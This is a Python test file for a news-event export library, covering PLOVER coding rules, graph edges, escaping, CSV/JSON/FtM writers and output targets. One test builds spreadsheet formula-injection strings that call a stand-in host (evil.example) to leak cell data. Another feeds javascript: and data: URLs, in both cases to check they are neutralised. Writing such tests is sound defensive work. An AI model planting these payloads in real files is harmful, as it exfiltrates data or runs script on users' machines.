"""The export building blocks on hand-made records: coding rules, edges, escaping, targets."""

from __future__ import annotations

import io
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from newsgraph.export import FORMATS, ExportError, csvfile, ftm, gexf, graphml, jsonl, plover
from newsgraph.export.countries import country_codes, entity_country, lexicon_countries
from newsgraph.export.graph import Graph, Node, event_edges
from newsgraph.export.target import open_target


def ref(id_: str, name: str, type_: str = "PERSON") -> dict[str, Any]:
    return {"id": id_, "name": name, "type": type_}


def make_event(type_: str = "CONSULT", status: str = "occurred", **extra: Any) -> dict[str, Any]:
    """An event in the shape of docs/design.md, with one report."""
    event: dict[str, Any] = {
        "id": "ev_1",
        "type": type_,
        "mode": None,
        "contexts": ["diplomatic"],
        "status": status,
        "summary": "A met B",
        "actors": [ref("en_a", "Anna Alm")],
        "recipients": [ref("en_b", "Finland", "GPE")],
        "place": ref("en_g", "Geneva", "GPE"),
        "time": {"start": "2025-04-05", "end": "2025-04-05", "granularity": "day", "text": "x"},
        "sources": 1,
        "reports": [
            {
                "id": "re_1", "article_id": "ar_1", "outlet": "Daily", "published": "2025-04-01",
                "sentence": "A will meet B on Saturday.\n", "start": 0, "end": 27,
                "trigger": {"start": 7, "end": 11, "text": "meet"}, "status": status,
                "attributed_to": None, "time": None, "place": None, "summary": "A met B",
                "confidence": 0.8,
            }
        ],
        "conflicts": [],
        "confidence": 0.8,
    }  # fmt: skip
    event.update(extra)
    return event


COUNTRIES = {"en_b": "Finland", "en_g": "Switzerland"}


# -- PLOVER coding rules -----------------------------------------------------------------------


def test_occurred_event_is_coded_as_it_is_and_dated_by_the_event() -> None:
    rec = plover.record(make_event(), {}, COUNTRIES)
    assert rec is not None
    assert rec["event"] == ["CONSULT"] and rec["date"] == "2025-04-05"
    assert rec["source"][0]["identifier_id"] == "en_a" and rec["source"][0]["code"] is None
    assert rec["recipient"][0]["code"] == "FIN"
    assert rec["event_loc"] == {"name": "Geneva", "country code": "CH", "cc3": "CHE"}
    assert rec["quad_code"] == 1 and rec["event_scale"] == 2.1
    assert "comment" not in rec


@pytest.mark.parametrize("status", ["planned", "proposed"])
def test_intended_meeting_is_agree_dated_when_reported(status: str) -> None:
    rec = plover.record(make_event(status=status, mode="visit"), {}, COUNTRIES)
    assert rec is not None
    assert rec["event"] == ["AGREE"] and rec["mode"] is None
    assert rec["date"] == "2025-04-01"  # the report, not the Saturday of the meeting
    assert "future" not in (rec["context"] or [])  # one category, not category + context
    ours = rec["newsgraph"]
    assert (ours["type"], ours["status"], ours["mode"], ours["rule"]) == (
        "CONSULT", status, "visit", "intent",
    )  # fmt: skip
    assert ours["time"]["start"] == "2025-04-05"


def test_planned_force_is_a_threat_and_planned_words_keep_their_type_with_future_context() -> None:
    rec = plover.record(make_event("SANCTION", "planned"), {}, COUNTRIES)
    assert rec is not None  # coders code "will impose sanctions" as a threat
    assert rec["event"] == ["THREATEN"] and rec["mode"] == ["restrict"]
    assert rec["newsgraph"]["rule"] == "intended-force"
    rec = plover.record(make_event("ACCUSE", "planned"), {}, COUNTRIES)
    assert rec is not None  # "will investigate": an accusation to come
    assert rec["event"] == ["ACCUSE"] and rec["context"] == ["diplomatic", "future"]


@pytest.mark.parametrize(
    ("type_", "coded", "mode"),
    [("PROTEST", "CONCEDE", None), ("AID", "SANCTION", ["withdraw"])],
)
def test_called_off_protest_concedes_and_suspended_aid_sanctions(
    type_: str, coded: str, mode: list[str] | None
) -> None:
    rec = plover.record(make_event(type_, "cancelled"), {}, COUNTRIES)
    assert rec is not None
    assert rec["event"] == [coded] and rec["mode"] == mode
    assert rec["date"] == "2025-04-01"  # the day the cancellation was reported


def test_cancelled_meeting_is_reject_meet_dated_by_the_cancellation() -> None:
    event = make_event(status="cancelled")
    event["reports"].insert(
        0, {**event["reports"][0], "status": "planned", "published": "2025-03-20"}
    )
    rec = plover.record(event, {}, COUNTRIES)
    assert rec is not None
    assert rec["event"] == ["REJECT"] and rec["mode"] == ["meet"] and rec["quad_code"] == 3
    assert rec["date"] == "2025-04-01"
    assert rec["newsgraph"]["type"] == "CONSULT" and rec["newsgraph"]["status"] == "cancelled"


@pytest.mark.parametrize(
    ("type_", "status"),
    [("CONSULT", "denied"), ("ASSAULT", "hypothetical"), ("ACCUSE", "cancelled")],
)
def test_unreal_events_are_not_coded(type_: str, status: str) -> None:
    assert isinstance(plover.code(make_event(type_, status)), plover.Skip)
    assert plover.record(make_event(type_, status), {}, COUNTRIES) is None


def test_event_without_source_actor_is_not_coded() -> None:
    assert plover.record(make_event(actors=[]), {}, COUNTRIES) is None


def test_undated_event_is_dated_by_its_first_report() -> None:
    rec = plover.record(make_event(time=None), {}, COUNTRIES)
    assert rec is not None and rec["date"] == "2025-04-01" and "enddate" not in rec


def test_interval_gives_enddate_and_citation_comes_from_the_article() -> None:
    time = {"start": "2025-04-01", "end": "2025-04-30", "granularity": "month", "text": "in April"}
    meta = plover.ArticleMeta("ar_1", "Title", "Daily", "2025-05-02", "https://x.example/a", "en")
    rec = plover.record(make_event(time=time), {"ar_1": meta}, COUNTRIES)
    assert rec is not None
    assert (rec["date"], rec["enddate"]) == ("2025-04-01", "2025-04-30")
    assert rec["cite_info"]["url"] == "https://x.example/a"
    assert rec["cite_info"]["codebook"] == plover.CODEBOOK
    assert rec["text"] == "A will meet B on Saturday." and rec["event_text"] == ["meet"]


# -- entity graph edges ------------------------------------------------------------------------


def test_actor_recipient_pairs_are_directed_edges() -> None:
    event = make_event("ACCUSE", actors=[ref("en_a", "A"), ref("en_c", "C")])
    edges = event_edges(event)
    assert [(e.source, e.target, e.reciprocal) for e in edges] == [
        ("en_a", "en_b", False), ("en_c", "en_b", False),
    ]  # fmt: skip
    assert len({e.id for e in edges}) == 2


def test_meeting_without_recipient_links_every_pair_of_actors() -> None:
    actors = [ref("en_a", "A"), ref("en_b", "B"), ref("en_c", "C")]
    edges = event_edges(make_event(actors=actors, recipients=[]))
    assert {(e.source, e.target) for e in edges} == {
        ("en_a", "en_b"), ("en_a", "en_c"), ("en_b", "en_c"),
    }  # fmt: skip
    assert all(e.reciprocal for e in edges)


def test_one_sided_event_without_recipient_has_no_edge() -> None:
    actors = [ref("en_a", "A"), ref("en_b", "B")]
    assert event_edges(make_event("PROTEST", actors=actors, recipients=[])) == []


def test_xml_writers_drop_characters_xml_cannot_carry() -> None:
    graph = Graph([Node("en_a", "Bad\x01name & <co>", "ORG", 1, 1, "")], [])
    for module in (graphml, gexf):
        out = io.StringIO()
        module.serialize(graph, out)
        root = ET.fromstring(out.getvalue().encode("utf-8"))
        assert "Bad\x01" not in out.getvalue()
        assert any(el.text == "Badname & <co>" or el.get("label") == "Badname & <co>"
                   for el in root.iter())  # fmt: skip


# -- JSON lines, CSV, FtM pieces ---------------------------------------------------------------


def test_json_line_is_one_line_for_every_reader() -> None:
    line = jsonl.dumps({"text": "a\u2028b\u2029c\x85d\ne"})
    assert len(line.splitlines()) == 1
    assert json.loads(line) == {"text": "a\u2028b\u2029c\x85d\ne"}


def test_csv_row_has_every_column() -> None:
    row = csvfile.row(make_event())
    assert tuple(row) == csvfile.COLUMNS
    assert row["first_sentence"] == "A will meet B on Saturday."


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    event = make_event(summary=formula, actors=[ref("en_a", formula)])
    event["reports"][0].update(outlet=formula, sentence=formula)
    row = csvfile.row(event)
    for column in ("summary", "actors", "first_outlet", "first_sentence"):
        assert not row[column].startswith(csvfile.FORMULA_STARTS), column
        assert row[column].removeprefix("'").strip() == formula.strip(), column
    assert row["summary"] == "'" + formula  # OWASP: a leading single quote
    assert row["confidence"] == 0.8 and row["sources"] == 1  # numbers stay numbers


def test_ftm_ids_are_valid_ftm_entity_ids() -> None:
    assert ftm.ftm_id("en_ff40cbe75e4d1c47") == "en-ff40cbe75e4d1c47"


@pytest.mark.parametrize(
    ("type_", "acts", "schema"),
    [
        ("PERSON", False, "Person"), ("ORG", True, "Organization"), ("NORP", True, "LegalEntity"),
        ("GPE", True, "PublicBody"), ("GPE", False, "Address"), ("LOC", True, "LegalEntity"),
        ("PRODUCT", False, None), ("PRODUCT", True, "LegalEntity"),
    ],
)  # fmt: skip
def test_ftm_schema_by_entity_type(type_: str, acts: bool, schema: str | None) -> None:
    assert ftm.schema_for(type_, acts) == schema


def test_ftm_event_links_actors_and_cites_reports() -> None:
    entity = ftm.event(make_event(), {"ar_1": "https://x.example/a"}, COUNTRIES)
    props = entity["properties"]
    assert entity["schema"] == "Event" and entity["id"] == "ev-1"
    assert props["organizer"] == ["en-a"] and props["involved"] == ["en-a", "en-b"]
    assert props["date"] == ["2025-04-05"] and props["country"] == ["ch"]
    assert props["sourceUrl"] == ["https://x.example/a"] and props["proof"] == ["ar-1"]
    assert props["recordId"] == ["ev_1"]


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "x"]
)
def test_ftm_source_urls_are_web_addresses_only(url: str) -> None:
    record = {"id": "ar_1", "title": "T", "outlet": "Daily", "url": url, "authors": []}
    assert "sourceUrl" not in ftm.article(record)["properties"]
    assert "sourceUrl" not in ftm.event(make_event(), {"ar_1": url}, COUNTRIES)["properties"]
    fine = {**record, "url": "https://x.example/a"}
    assert ftm.article(fine)["properties"]["sourceUrl"] == ["https://x.example/a"]


# -- countries ---------------------------------------------------------------------------------


def test_every_lexicon_country_has_iso_codes() -> None:
    lexicon = Path(__file__).resolve().parents[2] / "src/newsgraph/lexicon/countries.tsv"
    lines = lexicon.read_text(encoding="utf-8").splitlines()
    names = sorted(line.split("\t")[0] for line in lines if line.strip() and line[0] != "#")
    missing = sorted(set(names) - set(lexicon_countries()))
    assert not missing, f"add ISO codes for {missing} to newsgraph/export/countries.py"


def test_country_codes_of_places_and_demonyms() -> None:
    assert country_codes("Chile") == ("CL", "CHL")
    assert entity_country("GPE", "Lisbon", "Portugal") == ("PT", "PRT")
    assert entity_country("NORP", "Chilean", None) == ("CL", "CHL")
    assert entity_country("PERSON", "Chile", None) is None


# -- output targets ----------------------------------------------------------------------------


def test_unknown_format_is_an_export_error() -> None:
    from newsgraph.export import export

    with pytest.raises(ExportError, match="unknown export format"):
        export(None, "xlsx", io.StringIO())  # type: ignore[arg-type]
    assert set(FORMATS) == {
        "jsonl",
        "csv",
        "entities-csv",
        "articles-csv",
        "plover",
        "graphml",
        "gexf",
        "ftm",
    }


def test_file_target_appears_only_when_complete(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("previous export\n")
    with pytest.raises(RuntimeError), open_target(str(path)) as stream:
        stream.write("half")
        raise RuntimeError("interrupted")
    assert path.read_text() == "previous export\n"
    assert os.listdir(tmp_path) == ["out.jsonl"]  # no temporary file left behind
    with open_target(path) as stream:
        stream.write("new\n")
    assert path.read_text() == "new\n"


def test_unusable_paths_are_export_errors(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="does not exist"), open_target(tmp_path / "no" / "x"):
        pass
    with pytest.raises(ExportError, match="directory"), open_target(tmp_path):
        pass


def test_dash_and_none_mean_stdout(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    for target in (None, "-"):
        with open_target(target) as stream:
            stream.write("é\n")
    assert capsysbinary.readouterr().out == "é\né\n".encode()
